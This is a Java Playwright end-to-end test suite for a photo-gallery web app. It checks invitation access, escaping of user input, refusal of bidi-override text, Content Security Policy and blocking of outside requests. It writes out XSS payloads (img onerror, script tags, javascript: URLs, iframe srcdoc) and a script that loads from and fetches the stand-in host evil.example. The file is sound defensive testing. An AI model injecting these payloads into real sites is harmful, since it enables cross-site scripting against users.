package dev.kilat.local.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import dev.kilat.local.demo.PhotoFile;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/// What no page may ever do: let in who was not invited, take text for markup, or talk to
/// strangers.
@ExtendWith({Cloud.class, Chromium.class, Wall.Hung.class})
class RulesTest {
    private static final String MARKUP =
            "<img src=x onerror=\"window.ran=1\"><script>window.ran=2</script>";

    @Test
    void the_invitation_lets_in_and_a_wrong_one_finds_what_nobody_ever_made(
            Cloud.Running kilat, Browsers browsers) {
        JsonNode event = kilat.event("private");
        String slug = event.path("slug").asText();
        GuestPage invited = new GuestPage(browsers.page(Screen.PHONE));
        invited.page().navigate(event.path("join_url").asText());
        invited.says("Live");
        assertThat(invited.page().getByText("A day").first()).isVisible();

        String nothing = notFound(browsers, kilat.origin() + "/e/never-made");
        assertThat(notFound(browsers, kilat.origin() + "/e/" + slug)).isEqualTo(nothing);
        assertThat(notFound(browsers, kilat.origin() + "/e/" + slug + "#join=" + "x".repeat(43)))
                .isEqualTo(nothing);
    }

    @Test
    void what_people_type_is_text_and_never_markup(Cloud.Running kilat, Browsers browsers) {
        String slug = "markup";
        kilat.admin().createEvent(slug, MARKUP, "public");
        PhotoFile photo = Photos.jpeg(400, 300);
        kilat.admin().upload(slug, new PhotoFile(MARKUP + ".jpg", "image/jpeg", photo.bytes()));

        Page guest = GuestPage.open(browsers.page(Screen.PHONE), kilat, slug).page();
        assertThat(guest.locator("h1")).hasText(MARKUP);
        assertThat(guest).hasTitle(Pattern.compile("^<img src=x onerror="));
        guest.locator("[data-photo]").click();
        OpenPhoto open = new OpenPhoto(new GuestPage(guest));
        open.openComments();
        for (String words : List.of(MARKUP, "javascript:window.ran=3", "[x](https://x.example)")) {
            open.name().fill("<b>Budi</b>");
            open.words().fill(words);
            open.send().click();
            assertThat(open.comments().last()).containsText(words);
        }
        assertThat(open.comments().first()).containsText("<b>Budi</b>");
        assertThat(open.comments().locator("a, b, img, script")).hasCount(0);
        harmless(guest);

        AdminPage admin = AdminPage.at(browsers.page(Screen.DESKTOP), kilat, slug);
        assertThat(admin.page().locator("h1").first()).hasText(MARKUP);
        admin.choose(List.of(photo));
        admin.page().getByText("Already there").first().waitFor();
        harmless(admin.page());
        assertThat(browsers.complaints()).isEmpty();
    }

    @Test
    void words_that_would_turn_the_lines_around_are_refused_with_a_word(
            Cloud.Running kilat, Browsers browsers, Wall hung) {
        Wall wall = Copies.of(hung, 1, kilat);
        GuestPage guest = GuestPage.open(browsers.page(Screen.DESKTOP), kilat, wall.slug());
        OpenPhoto open = OpenPhoto.open(guest, wall.newest());
        open.openComments();
        open.words().fill("moor\u202Egnp.exe");
        open.send().click();
        assertThat(open.comments().last()).containsText("This comment wasn’t accepted.");
    }

    /// As if markup had got into a page after all.
    @Test
    void a_script_that_got_into_a_page_would_not_run_and_could_tell_nobody(
            Cloud.Running kilat, Browsers browsers) {
        Page page = GuestPage.open(browsers.page(Screen.PHONE), kilat, kilat.event()).page();
        page.evaluate(
                """
                () => {
                    const script = document.createElement('script');
                    script.textContent = 'window.ran = 1';
                    const foreign = document.createElement('script');
                    foreign.src = 'https://evil.example/x.js';
                    const markup = document.createElement('div');
                    markup.innerHTML = '<img src="data:," onerror="window.ran = 2">'
                        + '<iframe srcdoc="<script>parent.ran = 3</script>"></iframe>'
                        + '<a id="link" href="javascript:window.ran = 4">x</a>'
                        + '<img src="https://evil.example/x.png">';
                    document.body.append(script, foreign, markup);
                    document.getElementById('link').click();
                    window.told = fetch('https://evil.example/').then(() => true, () => false);
                }
                """);
        assertThat(page.evaluate("window.told")).isEqualTo(false);
        page.waitForCondition(() -> browsers.complaints().size() >= 5);
        assertThat(page.evaluate("window.ran")).isNull();
        assertThat(browsers.complaints().toString())
                .contains("script-src", "img-src", "connect-src")
                .contains("inline");
    }

    /// A name of right-to-left letters stays a name, and what stands beside it stays beside it.
    @Test
    void a_name_that_is_read_from_the_right_moves_nothing_beside_it(
            Cloud.Running kilat, Browsers browsers) {
        String slug = kilat.event();
        String id = kilat.admin().upload(slug, Photos.jpeg(400, 300)).path("photo_id").asText();
        AdminPage admin = AdminPage.at(browsers.page(Screen.DESKTOP), kilat, slug);
        GuestPage guest = GuestPage.open(browsers.page(Screen.PHONE), kilat, slug);
        OpenPhoto open = OpenPhoto.open(guest, id);
        open.openComments();
        open.name().fill("\u05E9\u05E8\u05D4");
        open.words().fill("123 \u05E9\u05DC\u05D5\u05DD");
        open.send().click();
        var toast = admin.page().locator(".toasts bdi");
        assertThat(toast).hasCount(2);
        double name = toast.first().boundingBox().x;
        assertThat(toast.last().boundingBox().x).isGreaterThan(name);
        var who = open.comments().last().locator(".who > *");
        assertThat(who.last().boundingBox().x).isGreaterThan(who.first().boundingBox().x);
    }

    @Test
    void pages_run_no_script_but_their_own_and_talk_to_nobody_else(
            Cloud.Running kilat, Browsers browsers, Wall wall) {
        List<Response> answers = new ArrayList<>();
        List<String> asked = new ArrayList<>();
        for (Screen screen : Screen.values()) {
            Page page = browsers.page(screen);
            page.onResponse(answers::add);
            page.onRequest(request -> asked.add(request.url()));
            page.onWebSocket(socket -> asked.add(socket.url().replaceFirst("^ws", "http")));
            GuestPage guest = GuestPage.open(page, kilat, wall.slug());
            guest.awaitImages();
            guest.tile(wall.newest()).click();
            guest.page().waitForDownload(guest.button("Download")::click);
            AdminPage.at(page, kilat, wall.slug());
        }

        assertThat(asked)
                .allSatisfy(url ->
                        assertThat(url)
                                .matches(ours ->
                                        ours.startsWith("blob:" + kilat.origin() + "/")
                                                || ours.startsWith("data:image/")
                                                || List.of(kilat.origin(), kilat.cloud().s3Origin())
                                                        .contains(originOf(ours))));
        List<Response> own =
                answers.stream().filter(one -> one.url().startsWith(kilat.origin())).toList();
        assertThat(own)
                .allSatisfy(answer ->
                        assertThat(answer.headers())
                                .as(answer.url())
                                .containsEntry("x-content-type-options", "nosniff"));
        assertThat(own.stream().filter(one -> one.request().isNavigationRequest()))
                .isNotEmpty()
                .allSatisfy(page ->
                        assertThat(page.headers().get("content-security-policy"))
                                .contains("default-src 'self'", "object-src 'none'")
                                .doesNotContain("unsafe-inline")
                                .doesNotContain("unsafe-eval"));
        assertThat(browsers.complaints()).isEmpty();
    }

    private static String notFound(Browsers browsers, String url) {
        Page page = browsers.page(Screen.PHONE);
        page.navigate(url);
        page.getByText("This gallery isn’t here.").waitFor();
        return page.title() + page.locator("body").innerHTML();
    }

    private static void harmless(Page page) {
        assertThat(page.evaluate("window.ran")).isNull();
        assertThat(page.locator("img[src='x'], [onerror]")).hasCount(0);
        assertThat(page.locator("body script")).hasCount(0);
    }

    private static String originOf(String url) {
        URI uri = URI.create(url);
        return uri.getScheme() + "://" + uri.getAuthority();
    }
}
